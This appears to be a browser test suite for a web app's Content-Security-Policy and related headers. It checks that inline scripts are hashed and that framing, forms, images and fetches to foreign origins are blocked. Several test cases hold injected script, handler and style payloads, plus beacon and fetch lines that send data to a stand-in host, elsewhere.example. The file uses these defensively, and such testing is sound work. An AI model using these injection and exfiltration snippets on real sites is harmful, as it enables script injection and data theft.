import { createHash } from "node:crypto";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { beforeAll, describe, expect, test } from "vitest";
import { paths } from "../../src/paths";
import type { Person } from "./person";
import { openStage } from "./stage";

const MAP = "https://www.openstreetmap.org/**";

const { arrive, product } = openStage();

/** A site that is up to no good, on an origin of its own. */
let elsewhereUrl: string;

beforeAll(async () => {
  const elsewhere = createServer((_request, response) => {
    response.setHeader("access-control-allow-origin", "*");
    response.setHeader("content-type", "text/html");
    response.end(`<iframe src="${product().url}/login"></iframe>`);
  });
  await new Promise<void>((resolve) => {
    elsewhere.listen(0, "127.0.0.1", resolve);
  });
  const { port } = elsewhere.address() as AddressInfo;
  elsewhereUrl = `http://localhost:${port}`;
  return () => void elsewhere.close();
});

/** Reports as complaints what the policy stops, on every page of the person's. */
async function watch({ context }: Person) {
  await context.addInitScript(() => {
    addEventListener("securitypolicyviolation", (violation) => {
      const { effectiveDirective, blockedURI, sourceFile } = violation;
      const what = `stopped ${effectiveDirective} ${blockedURI} ${sourceFile}`;
      reportError(new Error(what));
    });
  });
}

/** As most people have it: what moves may set styles. */
const moving = { reducedMotion: "no-preference" } as const;

/** Tests look at the complaints themselves. */
async function visitor(name = "Asha Rao") {
  const person = await arrive(name, moving);
  await watch(person);
  return person.mayComplain();
}

const address = (path: string) => new URL(path, product().url);

test.each([...Object.values(paths), "/nowhere"])(
  "%s is HTML of its own, is sent with its policies, and holds nothing inline but the script that they name",
  async (path) => {
    const headers = { accept: "text/html" };
    const response = await fetch(address(path), { headers });
    const policy = response.headers.get("content-security-policy") ?? "";
    expect(policy).toContain("style-src 'self';");
    expect(policy).not.toMatch(/unsafe|https?:(?!\/\/)|\*/);
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    expect(response.headers.get("permissions-policy")).toContain(
      "camera=(self)",
    );
    const html = await response.text();
    const isKnown = path !== "/nowhere";
    expect(response.status).toBe(isKnown ? 200 : 404);
    expect(html.includes(`data-page="${path}"`)).toBe(isKnown);
    expect(html).toContain('<main id="content"');
    const inline = [
      ...html.matchAll(/<script(?![^>]*\bsrc=)([^>]*)>(.*?)<\/script>/gs),
    ].filter(([, kind]) => !kind?.includes("application/ld+json"));
    expect(inline.length).toBe(1);
    const hash = createHash("sha256").update(inline[0]?.[2] ?? "");
    expect(policy).toContain(
      `script-src 'self' 'sha256-${hash.digest("base64")}';`,
    );
    expect(html.match(/<[^>]*\s(style|on\w+)="/g)).toBeNull();
    expect(html).not.toMatch(/<style|javascript:/);
  },
);

test.each([
  ["referrer-policy", paths.resetPassword, "no-referrer"],
  ["referrer-policy", paths.appointment, "no-referrer"],
  ["referrer-policy", paths.google, "no-referrer"],
  ["referrer-policy", paths.login, "strict-origin-when-cross-origin"],
  // A popup may go to Google and come back to the window that opened it.
  ["cross-origin-opener-policy", paths.login, "same-origin-allow-popups"],
  ["cross-origin-opener-policy", paths.google, "unsafe-none"],
])("the %s of %s is %s", async (name, path, value) => {
  expect((await fetch(address(path))).headers.get(name)).toBe(value);
});

test("the map comes, and from nowhere else", async () => {
  const asha = await visitor();
  await asha.context.route(MAP, (route) =>
    route.fulfill({ contentType: "text/html", body: "<h1>Streets</h1>" }),
  );
  await asha.page.goto(paths.contact);
  const frame = asha.page.getByTitle("Map of the venue");
  await frame.scrollIntoViewIfNeeded();
  await expect.poll(() => frame.isVisible()).toBe(true);
  expect(asha.complaints()).toEqual([]);
  await asha.page.evaluate((src) => {
    const foreign = document.createElement("iframe");
    foreign.src = src;
    document.body.append(foreign);
  }, elsewhereUrl);
  await expect.poll(() => asha.complaints().join()).toContain("frame-src");
});

describe("on a page that a visitor reads", () => {
  let asha: Person;
  beforeAll(async () => {
    asha = await visitor();
    await asha.page.goto(paths.about);
  });

  test.each([
    [
      "a script that was smuggled in",
      "script-src",
      `document.body.append(Object.assign(document.createElement("script"), { textContent: "document.title = 'stolen'" }))`,
    ],
    [
      "a handler that was smuggled in",
      "script-src",
      `const button = document.createElement("button");
       button.setAttribute("onclick", "document.title = 'stolen'");
       document.body.append(button);
       button.click()`,
    ],
    [
      "a style that was smuggled in",
      "style-src",
      `document.body.insertAdjacentHTML("beforeend", "<p style='color: red'>")`,
    ],
    [
      "a form that leads elsewhere",
      "form-action",
      `const form = document.createElement("form");
       form.action = "https://elsewhere.example/";
       form.dataset.ready = "";
       document.body.append(form);
       form.submit()`,
    ],
    [
      "a picture that tells somebody",
      "img-src",
      `new Image().src = "https://elsewhere.example/?stolen"`,
    ],
    [
      "a call that tells somebody",
      "connect-src",
      `fetch("https://elsewhere.example/").catch(() => {})`,
    ],
  ] as const)("%s is stopped by %s", async (_what, directive, smuggle) => {
    asha.forgiveComplaints();
    await asha.page.evaluate(`{ ${smuggle} }`);
    await expect
      .poll(() => asha.complaints().join())
      .toContain(`stopped ${directive}`);
    expect(await asha.page.title()).not.toBe("stolen");
  });
});

test("no other site shows a page of this one inside itself", async () => {
  const asha = await visitor();
  await asha.page.goto(elsewhereUrl);
  const complaint = () => asha.complaints().join();
  await expect.poll(complaint).toContain("frame-ancestors");
});
